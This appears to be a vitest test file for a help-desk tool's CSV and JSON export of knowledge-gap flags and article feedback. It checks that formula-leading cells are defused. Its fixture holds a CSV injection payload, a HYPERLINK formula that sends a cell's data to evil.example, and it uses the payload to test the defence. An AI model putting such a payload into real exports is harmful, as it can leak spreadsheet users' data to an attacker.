/**
 * Issue 5, "Feedback and gaps": flags (with where each was delivered) and
 * article feedback export as CSV a spreadsheet opens safely, and as JSON.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../lib/csv';
import { createGapFlag } from '../../lib/knowledge/gaps';
import { csvCell, exportFeedback, exportFlags, toCsv } from '../../lib/knowledge/export';
import type { FlagDelivery } from '../../lib/knowledge/outbox';
import type { ArticleFeedback } from '../../lib/knowledge/types';

const now = () => new Date('2025-03-05T00:00:00Z');
const flag = createGapFlag(
  {
    ticket: { site: 'zendesk', host: 'acme.zendesk.com', ticketId: '48213' },
    excerpt: '=HYPERLINK("http://evil.example/?"&A1,"click") 退款, "quoted"\nsecond line',
    intent: 'billing_refund',
    reason: 'outdated',
    note: '@SUM(1+1)',
    draft: '-2+3',
    articleId: 'zendesk:acme.zendesk.com:360001:en-us',
    language: 'en',
  },
  { redact: (t) => t, now: () => new Date('2025-03-04T09:15:27.120Z'), uuid: () => 'flag-1' },
);
const delivery: FlagDelivery = {
  flagId: 'flag-1',
  status: 'failed',
  deliveries: [
    { target: 'webhook', status: 'delivered', attempts: 3, lastError: '', nextAttemptAt: 0, deliveredAt: '2025-03-04T09:20:00.000Z', sending: false },
    { target: 'zendesk', status: 'failed', attempts: 1, lastError: 'Zendesk refused the flag (422): the ticket may be closed.', nextAttemptAt: 0, deliveredAt: '', sending: false },
  ],
};
const feedback: ArticleFeedback[] = [
  { id: 1, articleId: 'a1', kind: 'not_helpful', note: '+1 this is wrong, see "pricing"', intent: 'billing_refund', ticket: { site: 'zendesk', host: 'acme.zendesk.com', ticketId: '48213' }, at: '2025-03-04T10:00:00.000Z' },
  { id: 2, articleId: 'a2', kind: 'helpful', note: '', intent: null, ticket: { site: 'salesforce', host: 'acme.lightning.force.com', ticketId: '500Qy' }, at: '2025-03-04T11:00:00.000Z' },
];

describe('CSV cells', () => {
  it('quotes as RFC 4180 asks: commas, quotes and line breaks', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(3)).toBe('3');
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(csvCell(s).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('a=1')).toBe('a=1');
  });

  it('starts with a byte-order mark for Excel, and ends rows with CRLF', () => {
    const csv = toCsv(['a', 'b'], [['1', '退款']]);
    expect(csv).toBe('\uFEFFa,b\r\n1,退款\r\n');
    expect(toCsv(['a'], [], false)).toBe('a\r\n');
  });
});

describe('flags export', () => {
  it('CSV: one row per flag with each target’s status, round-tripping through a CSV parser', () => {
    const rows = parseCsv(exportFlags([{ flag, delivery }], 'csv', { now }));
    const [header, row] = rows as [string[], string[]];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(header).toContain('webhook_status');
    expect(header).toContain('zendesk_last_error');
    expect(rows).toHaveLength(2);
    expect(cell('excerpt')).toBe(`'${flag.excerpt}`);
    expect(cell('note')).toBe("'@SUM(1+1)");
    expect(cell('draft')).toBe("'-2+3");
    expect(cell('status')).toBe('failed');
    expect(cell('webhook_status')).toBe('delivered');
    expect(cell('webhook_attempts')).toBe('3');
    expect(cell('zendesk_last_error')).toBe('Zendesk refused the flag (422): the ticket may be closed.');
    expect(cell('ticket_url')).toBe('https://acme.zendesk.com/agent/tickets/48213');
    // No cell of the file starts a formula.
    for (const c of row) expect(c).not.toMatch(/^[=+\-@]/);
  });

  it('CSV: a flag not yet enqueued anywhere is "local" with empty target columns', () => {
    const [header, row] = parseCsv(exportFlags([{ flag }], 'csv')) as [string[], string[]];
    expect(row[header.indexOf('status')]).toBe('local');
    expect(row[header.indexOf('webhook_status')]).toBe('');
  });

  it('JSON: the webhook fields of each flag with its deliveries, versioned', () => {
    const out = JSON.parse(exportFlags([{ flag, delivery }], 'json', { now }));
    expect(out).toMatchObject({ type: 'deskmate.knowledge_gaps_export', version: 1, exported_at: '2025-03-05T00:00:00.000Z' });
    expect(out.flags[0]).toMatchObject({ id: 'flag-1', excerpt: flag.excerpt, reason: 'outdated', status: 'failed', ticket: { id: '48213' } });
    expect(out.flags[0].deliveries).toEqual([
      { target: 'webhook', status: 'delivered', attempts: 3, last_error: '', delivered_at: '2025-03-04T09:20:00.000Z' },
      { target: 'zendesk', status: 'failed', attempts: 1, last_error: 'Zendesk refused the flag (422): the ticket may be closed.', delivered_at: null },
    ]);
  });
});

describe('feedback export', () => {
  it('CSV and JSON carry every rating with its note, intent and ticket', () => {
    const rows = parseCsv(exportFeedback(feedback, 'csv'));
    expect(rows).toEqual([
      ['at', 'article_id', 'kind', 'note', 'intent', 'site', 'host', 'ticket_id'],
      ['2025-03-04T10:00:00.000Z', 'a1', 'not_helpful', `'+1 this is wrong, see "pricing"`, 'billing_refund', 'zendesk', 'acme.zendesk.com', '48213'],
      ['2025-03-04T11:00:00.000Z', 'a2', 'helpful', '', '', 'salesforce', 'acme.lightning.force.com', '500Qy'],
    ]);
    const json = JSON.parse(exportFeedback(feedback, 'json', { now }));
    expect(json.type).toBe('deskmate.article_feedback_export');
    expect(json.feedback[1]).toEqual({ at: '2025-03-04T11:00:00.000Z', article_id: 'a2', kind: 'helpful', note: '', intent: null, ticket: { site: 'salesforce', host: 'acme.lightning.force.com', id: '500Qy' } });
  });
});
